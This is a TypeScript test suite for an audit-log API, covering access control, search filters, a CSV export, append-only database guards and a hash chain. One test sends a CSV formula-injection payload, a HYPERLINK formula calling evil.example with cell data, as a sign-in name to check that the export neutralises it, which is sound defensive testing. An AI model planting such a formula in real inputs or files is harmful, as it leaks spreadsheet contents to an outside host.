import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { recordStandaloneAudit, systemAuditContext } from "../src/db/audit.ts";
import { verifyAuditChain } from "../src/server/platform/audit-queries.ts";
import { buildTestApp, type TestApp, withOwnDatabase } from "./helpers/app.ts";
import { actorWith, buildArea, buildMunicipality } from "./helpers/factories.ts";

let t: TestApp;
let sysadmin: Awaited<ReturnType<typeof actorWith>>;
beforeAll(async () => {
  t = await buildTestApp();
  sysadmin = await actorWith(t, "system_admin", null);
});
afterAll(() => t.close());

const get = (url: string, headers: object = {}) =>
  t.app.inject({ url, headers: headers as Record<string, string> });

async function createArea(headers: object, parentId: string, name = `Område ${randomUUID()}`) {
  const res = await t.app.inject({
    method: "POST",
    url: "/api/organisations",
    headers: headers as Record<string, string>,
    payload: { kind: "area", parentId, name, areaType: "district" },
  });
  expect(res.statusCode).toBe(201);
  return res.json() as { id: string; name: string };
}

interface Entry {
  seq: number;
  action: string;
  actorId: string | null;
  actorLabel: string;
  subjectId: string | null;
  organisationId: string | null;
  occurredAt: string;
}

describe("GET /api/audit", () => {
  it("answers many searches at once without a replica: each reads in its own transaction", async () => {
    // The app's pool holds 5 connections. A search that held one for its transaction and took a
    // second for the read deadlocked the pool once every connection waited so.
    const statuses = await Promise.all(
      Array.from({ length: 20 }, async (_, i) => {
        const search = i % 2 === 0 ? "/api/audit?limit=5" : "/api/audit/export.csv";
        return (await get(search, sysadmin.headers)).statusCode;
      }),
    );
    expect(statuses).toEqual(Array(20).fill(200));
  }, 20_000);

  it("answers 401 without a session and 403 to roles without audit.read", async () => {
    expect((await get("/api/audit")).statusCode).toBe(401);
    expect((await get("/api/audit/export.csv")).statusCode).toBe(401);
    const { headers } = await actorWith(t, "coordinator");
    expect((await get("/api/audit", headers)).statusCode).toBe(403);
    expect((await get("/api/audit/export.csv", headers)).statusCode).toBe(403);
  });

  it("shows an organisation administrator only their subtree; a system administrator all", async () => {
    const municipality = await buildMunicipality(t.db);
    const admin = await actorWith(t, "org_admin", municipality.id);
    const own = await createArea(admin.headers, municipality.id);
    const foreignMunicipality = await buildMunicipality(t.db);
    const foreign = await createArea(sysadmin.headers, foreignMunicipality.id);

    const res = await get("/api/audit", admin.headers);
    expect(res.statusCode).toBe(200);
    const entries = res.json() as Entry[];
    expect(entries.map((e) => e.subjectId)).toContain(own.id);
    expect(entries.map((e) => e.subjectId)).not.toContain(foreign.id);
    const subtree = new Set([municipality.id, own.id]);
    for (const e of entries) {
      // Account events carry no organisation; they show for people with a role in the subtree.
      if (e.organisationId === null) expect(e.actorId).toBe(admin.user.id);
      else expect(subtree.has(e.organisationId)).toBe(true);
    }
    expect(entries).toContainEqual(
      expect.objectContaining({
        action: "auth.sign_in",
        actorId: admin.user.id,
        organisationId: null,
      }),
    );

    const denied = await get(`/api/audit?organisationId=${foreignMunicipality.id}`, admin.headers);
    expect(denied.statusCode).toBe(403);
    const all = await get(`/api/audit?organisationId=${foreign.id}`, sysadmin.headers);
    expect((all.json() as Entry[]).map((e) => e.subjectId)).toEqual([foreign.id]);
  });

  it("filters by action, actor, subject, organisation, time and page", async () => {
    const municipality = await buildMunicipality(t.db);
    const admin = await actorWith(t, "org_admin", municipality.id);
    const first = await createArea(admin.headers, municipality.id);
    const second = await createArea(admin.headers, municipality.id);
    await t.app.inject({
      method: "PATCH",
      url: `/api/organisations/${second.id}`,
      headers: admin.headers,
      payload: { name: "Omdöpt", version: 1 },
    });
    const list = async (query: string) => {
      const res = await get(`/api/audit?${query}`, admin.headers);
      expect(res.statusCode).toBe(200);
      return res.json() as Entry[];
    };

    const creates = await list("action=organisation.create");
    expect(creates.map((e) => e.subjectId)).toEqual([second.id, first.id]);
    expect((await list("action=organisation.")).map((e) => e.action)).toEqual([
      "organisation.update",
      "organisation.create",
      "organisation.create",
    ]);
    expect((await list(`subjectId=${second.id}`)).map((e) => e.action)).toEqual([
      "organisation.update",
      "organisation.create",
    ]);
    expect(
      (await list(`organisationId=${first.id}`)).every((e) => e.organisationId === first.id),
    ).toBe(true);
    const byActor = await list(`actor=${encodeURIComponent(admin.user.email)}`);
    expect(byActor.filter((e) => e.action.startsWith("organisation."))).toHaveLength(3);
    expect(byActor.every((e) => e.actorId === admin.user.id)).toBe(true);
    expect(await list(`actor=nobody-${randomUUID()}`)).toEqual([]);

    // Each search is itself recorded, so pages are compared on a filter that excludes searches.
    const changes = await list("action=organisation.");
    const newest = changes[0]!;
    expect((await list("action=organisation.&limit=1")).map((e) => e.seq)).toEqual([newest.seq]);
    expect((await list(`action=organisation.&before=${newest.seq}`)).map((e) => e.seq)).toEqual(
      changes.slice(1).map((e) => e.seq),
    );
    const future = new Date(Date.now() + 3_600_000).toISOString();
    expect(await list(`from=${encodeURIComponent(future)}`)).toEqual([]);
    expect(await list(`to=${encodeURIComponent("2000-01-01T00:00:00Z")}`)).toEqual([]);
  });

  it.each([
    ["limit=0", "querystring.limit"],
    ["limit=501", "querystring.limit"],
    ["from=yesterday", "querystring.from"],
    ["organisationId=x", "querystring.organisationId"],
    ["colour=red", "querystring.colour"],
  ])("answers 400 to %s", async (query, path) => {
    const res = await get(`/api/audit?${query}`, sysadmin.headers);
    expect(res.statusCode).toBe(400);
    expect(res.json().error.issues.map((i: { path: string }) => i.path)).toContain(path);
  });
});

describe("the action filter", () => {
  it("matches an underscore literally: auth.sign_in finds sign-ins, and only them", async () => {
    const email = `sign-in-${randomUUID().slice(0, 8)}@nowhere.example`;
    const login = await t.app.inject({
      method: "POST",
      url: "/api/auth/login",
      payload: { email, password: "wrong-password-here" },
    });
    expect(login.statusCode).toBe(401);
    const res = await get(
      `/api/audit?action=auth.sign_in&actor=${encodeURIComponent(email)}`,
      sysadmin.headers,
    );
    expect(res.statusCode).toBe(200);
    expect((res.json() as Entry[]).map((e) => [e.action, e.actorLabel])).toEqual([
      ["auth.sign_in", email],
    ]);
    // The underscore is not a wildcard: "auth.sign?in" is no action prefix that exists.
    const wildcard = await get(
      `/api/audit?action=auth.sign%25&actor=${encodeURIComponent(email)}`,
      sysadmin.headers,
    );
    expect(wildcard.json()).toEqual([]);
  });
});

describe("GET /api/audit/export.csv", () => {
  it("exports the filtered rows with a header row, and records the export", async () => {
    const municipality = await buildMunicipality(t.db);
    const admin = await actorWith(t, "org_admin", municipality.id);
    const area = await createArea(admin.headers, municipality.id, 'Export, "citat"');
    const res = await get(`/api/audit/export.csv?subjectId=${area.id}`, admin.headers);
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toContain("attachment");
    expect(res.body.startsWith("\uFEFF")).toBe(true);
    const rows = parse(res.body.slice(1), { delimiter: ";", columns: true }) as Record<
      string,
      string
    >[];
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      "Händelse (kod)": "organisation.create",
      Utfall: "Lyckades",
      Post: 'Export, "citat"',
      Posttyp: "organisation",
      "Post-id": area.id,
      "Utförarens e-post": admin.user.email,
      Utförare: admin.user.displayName,
    });

    const exports = await t.pool.query(
      "SELECT actor_id, details FROM platform.audit_log WHERE action = 'audit.export' AND actor_id = $1",
      [admin.user.id],
    );
    expect(exports.rows).toEqual([
      {
        actor_id: admin.user.id,
        details: { filter: { subjectId: area.id, limit: 50 }, rows: 1, format: "csv" },
      },
    ]);
  });

  it("neutralises a formula sent as a sign-in name before it reaches a spreadsheet", async () => {
    const marker = randomUUID().slice(0, 8);
    const hostile = `=HYPERLINK("http://evil.example/?x=${marker}"&A1,"click")`;
    const login = await t.app.inject({
      method: "POST",
      url: "/api/auth/login",
      payload: { email: hostile, password: "wrong-password-here" },
    });
    expect(login.statusCode).toBe(401);
    const res = await get(
      `/api/audit/export.csv?action=auth.sign_in&actor=${marker}`,
      sysadmin.headers,
    );
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body.replace(/^\uFEFF/, ""), { delimiter: ";" }) as string[][];
    expect(rows).toHaveLength(2);
    const actor = rows[1]![rows[0]!.indexOf("Utförarens e-post")]!;
    expect(actor).toBe(`'${hostile.toLowerCase()}`);
    expect(rows.flat().some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
  });

  it("refuses another municipality's log", async () => {
    const municipality = await buildMunicipality(t.db);
    const admin = await actorWith(t, "org_admin", municipality.id);
    const foreign = await buildMunicipality(t.db);
    const res = await get(`/api/audit/export.csv?organisationId=${foreign.id}`, admin.headers);
    expect(res.statusCode).toBe(403);
  });
});

describe("the audit table in PostgreSQL", () => {
  // Each statement targets a real row (row triggers do not fire for none) inside a transaction
  // that is rolled back, so the shared log stays whole even if a guard were missing. The runtime
  // role is refused by its grants; the owner, who holds every grant, by the triggers.
  it.each([
    "UPDATE platform.audit_log SET details = '{}' WHERE seq = (SELECT max(seq) FROM platform.audit_log)",
    "DELETE FROM platform.audit_log WHERE seq = (SELECT max(seq) FROM platform.audit_log)",
    "TRUNCATE platform.audit_log",
  ])("rejects %s, as the runtime role and as the owner", async (statement) => {
    await buildArea(t.db, (await buildMunicipality(t.db)).id);
    await recordStandaloneAudit(t.db, systemAuditContext("test"), { action: "seed.demo" });
    for (const [pool, message] of [
      [t.pool, /permission denied for table audit_log/],
      [t.owner.pool, /append-only/],
    ] as const) {
      const client = await pool.connect();
      try {
        await client.query("BEGIN");
        await expect(client.query(statement)).rejects.toThrow(message);
      } finally {
        await client.query("ROLLBACK");
        client.release();
      }
    }
  });

  it("has a valid hash chain", async () => {
    const result = await verifyAuditChain(t.db);
    expect(result.problems).toEqual([]);
    expect(result.ok).toBe(true);
    expect(result.rows).toBeGreaterThan(0);
    expect(result.headHash).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe("DATABASE_READ_URL", () => {
  it("sends the audit log's search and export to the read replica; access is decided on the primary", async () => {
    await withOwnDatabase(async ({ url, db: replica }) => {
      // Stands in for a replica: a database holding one entry the primary does not have.
      await recordStandaloneAudit(replica, systemAuditContext("replica-check"), {
        action: "seed.demo",
        subjectId: "only-on-the-replica",
      });
      const app = await buildTestApp({ DATABASE_READ_URL: url });
      try {
        const admin = await actorWith(app, "system_admin", null);
        const search = await app.app.inject({
          url: "/api/audit?subjectId=only-on-the-replica",
          headers: admin.headers,
        });
        expect(search.statusCode).toBe(200);
        expect(search.json().map((e: { action: string }) => e.action)).toEqual(["seed.demo"]);
        const exported = await app.app.inject({
          url: "/api/audit/export.csv?subjectId=only-on-the-replica",
          headers: admin.headers,
        });
        expect(exported.body).toContain("seed.demo");
        // The export's own audit row is written to the primary.
        const onPrimary = await app.pool.query(
          "SELECT count(*)::int AS n FROM platform.audit_log WHERE action = 'audit.export' AND actor_id = $1",
          [admin.user.id],
        );
        expect(onPrimary.rows[0].n).toBe(1);
        // A reader is refused by the primary's rules before the replica is asked.
        const reader = await actorWith(app, "reader", (await buildMunicipality(app.db)).id);
        const refused = await app.app.inject({ url: "/api/audit", headers: reader.headers });
        expect(refused.statusCode).toBe(403);
      } finally {
        await app.close();
      }
    });
  });
});
